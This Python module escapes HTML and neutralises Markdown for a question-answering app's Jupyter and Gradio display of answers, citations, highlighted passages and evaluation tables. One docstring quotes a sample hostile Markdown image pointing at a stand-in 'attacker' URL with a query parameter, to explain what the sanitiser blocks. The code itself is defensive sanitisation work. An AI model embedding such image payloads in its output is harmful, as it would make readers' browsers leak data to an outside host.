"""HTML pieces for Jupyter's rich display (``_repr_html_``) of answers, ingest reports and eval summaries.

Article titles, sources, urls and passages come from untrusted authors, and so may questions and answers: every
piece of text is escaped here, attributes included, and a url becomes a link only when it is plain http(s). Nothing
else is trusted, so a ``<script>`` in a headline is shown as text, never run.
"""

from __future__ import annotations

import html
import re
from collections.abc import Iterable, Sequence
from typing import Any

_MARKER = re.compile(r"\[(\d{1,3})\]")  # an answer's citation marker
_BOLD = re.compile(r"\*\*([^*\n]+?)\*\*")  # Markdown bold, as the extractive engine marks a short answer
_HTTP_URL = re.compile(r"https?://[^\x00-\x20\x7f]+", re.IGNORECASE)
# What makes Markdown link, fetch or format code: a "]" that closes a link's text ("](url)", "][ref]", "[ref]: url"
# definitions), a "!" that opens an image ("!["), "\\" (escapes), "`" (code spans, where entities show raw), "$"
# (LaTeX), "@" (e-mail autolinks), and the ":" of "://" or the "." of "www." (bare-URL autolinks). A lone "[1]" stays
# as typed, so citation markers read right to a screen reader (the chat's labels show the raw text); bold and italics
# stay too: the extractive engine writes its short answer in bold.
_MARKDOWN_ACTIVE = re.compile(r"\](?=[(\[:])|!(?=\[)|[\\`$@]|:(?=//)|(?<=www)\.", re.IGNORECASE)
CONTEXT_CHARS = 240  # of the passage shown either side of the supporting quote
# Light styling that survives Jupyter's sanitizer (inline styles on plain tags) and suits light and dark themes.
QUOTE_STYLE = "margin:.3em 0 0 0;padding-left:.8em;border-left:3px solid #8884;opacity:.9"
NOTE_STYLE = "margin:.4em 0;padding:.3em .6em;border-left:4px solid #d9a400;background:#d9a40018"


def escape(text: Any) -> str:
    """Any value as HTML text, safe in element content and in quoted attributes."""
    return html.escape(str(text), quote=True)


def inert(text: Any) -> str:
    """Any value as text that stays text in HTML and in Markdown: nothing in it can become a tag, an image or a link.

    Gradio renders chat messages and ``gr.Markdown`` as Markdown with HTML; an answer, a notice quoting an article,
    or a title saying ``![x](http://attacker/?q=…)`` would otherwise make the reader's browser fetch that URL. The
    characters that make Markdown act are written as numeric character references, which a renderer shows as the
    characters themselves but never reads as syntax.
    """
    return _MARKDOWN_ACTIVE.sub(lambda m: f"&#{ord(m[0])};", html.escape(str(text), quote=False))


def is_web_link(url: str) -> bool:
    """Whether ``url`` is http(s) with no spaces or control characters: the only kind a page may link to."""
    # Citations' urls were checked where they entered (rag.core.types.safe_url); check again, as a page shows them.
    return bool(_HTTP_URL.fullmatch((url or "").strip()))


def safe_link(url: str, label: str) -> str:
    """``label`` (escaped) linked to ``url`` when it is a web link (:func:`is_web_link`), else the label alone."""
    if not is_web_link(url):
        return escape(label)
    return f'<a href="{escape(url.strip())}" target="_blank" rel="noopener noreferrer">{escape(label)}</a>'


def _found(passage: str, quote: str) -> re.Match[str] | None:
    """Where ``quote`` is in ``passage``. Whitespace may differ (the quote is a re-joined sentence), so words are
    matched with any whitespace between them."""
    if not quote.strip():
        return None
    return re.search(r"\s+".join(re.escape(word) for word in quote.split()), passage)


def highlight(passage: str, quote: str, context: int = CONTEXT_CHARS) -> str:
    """The passage around its supporting ``quote`` as HTML, the quote in ``<mark>``.

    A quote not found in the passage is shown alone, marked; without a quote, the whole passage is shown.
    """
    if not quote.strip():
        return escape(passage)
    match = _found(passage, quote)
    if match is None:
        return f"<mark>{escape(quote)}</mark>"
    before, after = passage[: match.start()], passage[match.end() :]
    # Cut at a space, so that the context starts and ends with whole words.
    head = "…" + before[-context:].split(" ", 1)[-1] if len(before) > context else before
    tail = after[:context].rsplit(" ", 1)[0] + " …" if len(after) > context else after
    return f"{escape(head)}<mark>{escape(match.group(0))}</mark>{escape(tail)}"


def marked(passage: str, quote: str) -> str:
    """The whole passage as HTML, with its supporting ``quote`` in ``<mark>`` where it is found; :func:`inert`, as the
    app shows it in a chat message, which is Markdown."""
    match = _found(passage, quote)
    if match is None:
        return inert(passage)
    before, after = passage[: match.start()], passage[match.end() :]
    return f"{inert(before)}<mark>{inert(match.group(0))}</mark>{inert(after)}"


def link_markers(text: str, numbers: set[int], anchor: str) -> str:
    """Escaped ``text`` with each ``[n]`` naming one of ``numbers`` linked to ``#{anchor}-{n}``, ``**x**`` in bold.

    The extractive engine writes its short answer in Markdown bold ("**three hours** — ..."), for the Markdown
    front ends; here it becomes <b>, after escaping, so only those two markups ever turn into tags.
    """

    def link(match: re.Match[str]) -> str:
        n = int(match.group(1))
        return f'<a href="#{anchor}-{n}">[{n}]</a>' if n in numbers else match.group(0)

    linked = _MARKER.sub(link, escape(text))  # escaping leaves "[", digits, "]" and "*" alone
    return _BOLD.sub(r"<b>\1</b>", linked)


def table_html(columns: Sequence[str], rows: Iterable[Sequence[Any]], caption: str = "") -> str:
    """A plain HTML table, every cell escaped; floats to three decimals, None as "–"."""
    head = "".join(f"<th>{escape(c)}</th>" for c in columns)
    body = "".join("<tr>" + "".join(f"<td>{escape(metric(v))}</td>" for v in row) + "</tr>" for row in rows)
    title = f"<caption>{escape(caption)}</caption>" if caption else ""
    return f"<table>{title}<thead><tr>{head}</tr></thead><tbody>{body}</tbody></table>"


def metric(value: Any) -> str:
    """A value for people: three decimals for a float, "–" when it does not apply."""
    if value is None:
        return "–"
    if isinstance(value, float):
        return f"{value:.3f}"
    return str(value)
